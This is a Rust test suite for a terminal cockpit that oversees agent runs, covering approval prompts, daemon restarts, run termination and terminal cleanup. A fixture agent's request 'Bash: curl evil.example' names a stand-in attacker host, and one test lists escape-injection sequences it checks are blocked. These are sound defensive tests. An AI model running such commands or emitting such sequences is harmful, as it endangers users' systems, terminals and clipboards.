//! The cockpit in a real terminal: what a person sees, presses and is left with.

use testkit::{House, Repo, TerminalSeat};

const BINARY: &str = env!("CARGO_BIN_EXE_pilothouse");

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle)
}

// And the terminal is given back afterwards.
#[test]
fn a_question_is_answered_in_place() {
    let house = House::new(BINARY, Repo::with_files(5));
    house.run("hostile", "hostile");
    let mut seat = TerminalSeat::take(&house, &[], 80, 24);
    seat.wait_until("the question", |s| {
        s.contains("NEEDS YOU") && s.contains("asks: Bash: curl evil.example") && s.contains("^[[2J")
    });
    seat.press("\t");
    seat.wait_until("the output", |s| s.contains("[Output]") && s.contains("not json at all"));
    seat.press("\t?");
    seat.wait_until("the help", |s| s.contains("go to the next run that needs you"));
    seat.press("\u{1b}");
    seat.wait_until("the help to be gone", |s| !s.contains("go to the next run that needs you"));
    let killed = house.daemon_pid();
    house.kill_daemon();
    // The cockpit starts the next daemon by itself; until then only leaving is possible.
    testkit::wait_until("another daemon", || {
        if house.daemon_pid() == killed { Err("the old one") } else { Ok(()) }.map_err(str::to_owned)
    });
    let mut tabs = 0;
    while !seat
        .wait_until("the daemon to be back", |s| !s.contains("daemon gone") && s.contains("NEEDS YOU"))
        .contains("[Output]")
    {
        assert!(tabs < 50, "keys are not heard any more");
        tabs += 1;
        seat.press("\t");
        seat.settle();
    }
    seat.press("y");
    seat.wait_until("the run to be ready", |s| s.contains("1 ready") && s.contains("READY"));
    seat.press("q");
    let (code, raw) = seat.leave();
    assert_eq!(code, 0);
    assert!(contains(&raw, b"\x1b[?1049h") && contains(&raw, b"\x1b[?1049l"), "the other screen is left");
    assert!(contains(&raw, b"\x1b[?25h"), "the cursor is shown again");
    for evil in [&b"\x1b]52"[..], b"\x1b]0;owned", b"\x9b31m", "\u{202e}".as_bytes(), b"\x1b[31;5m"] {
        assert!(!contains(&raw, evil), "{:?} reached the terminal", String::from_utf8_lossy(evil));
    }
}

#[test]
fn keys_start_and_terminate_a_run() {
    let house = House::new(BINARY, Repo::with_files(5));
    let mut seat = TerminalSeat::take(&house, &[], 120, 40);
    seat.wait_until("an empty cockpit", |s| s.contains("Press n to start one"));
    seat.press("nSleep a while\trehearsal:slow\r");
    seat.wait_until("the run at work", |s| {
        s.contains("1 working") && s.contains("sleep-a-while") && s.contains("Step 1")
    });
    seat.press("x");
    seat.wait_until("the question", |s| s.contains("Terminate sleep-a-while?") && s.contains("keeps"));
    seat.press("\r");
    seat.wait_until("the end", |s| s.contains("1 finished") && s.contains("terminated"));
    seat.press("y");
    seat.wait_until("the reason", |s| s.contains("sleep-a-while asks nothing"));
    seat.press("\u{3}");
    assert_eq!(seat.leave().0, 0);
    assert_eq!(house.row("sleep-a-while").expect("a row")["status"], "terminated");
}

#[test]
fn a_cut_terminal_stops_no_run() {
    let house = House::new(BINARY, Repo::with_files(5));
    house.run("goes-on", "slow");
    let row = house.wait_for("goes-on", "working");
    let mut seat = TerminalSeat::take(&house, &[], 80, 24);
    seat.wait_until("the run", |s| s.contains("goes-on"));
    let mut child = seat.cut();
    child.kill().expect("it can be killed");
    child.wait().expect("it ends");
    assert!(house.processes(&row) > 0);
    let mut again = TerminalSeat::take(&house, &[], 80, 24);
    again.wait_until("the same run at work", |s| s.contains("goes-on") && s.contains("1 working"));
    again.press("q");
    assert_eq!(again.leave().0, 0);
}

#[test]
fn waiting_draws_a_single_clean_line() {
    let house = House::new(BINARY, Repo::with_files(5));
    let mut seat =
        TerminalSeat::take(&house, &["run", "Look around", "--agent", "rehearsal:no-change", "--wait"], 80, 24);
    let screen = seat.wait_until("the end", |s| s.contains("nothing was changed"));
    let lines: Vec<_> = screen.lines().filter(|l| !l.trim().is_empty()).collect();
    assert!(lines.len() == 3 && lines[1].contains("no checks are defined"), "{screen}");
    let (code, raw) = seat.leave();
    assert_eq!(code, 0);
    assert!(contains(&raw, b"working"), "the progress line was drawn");
}
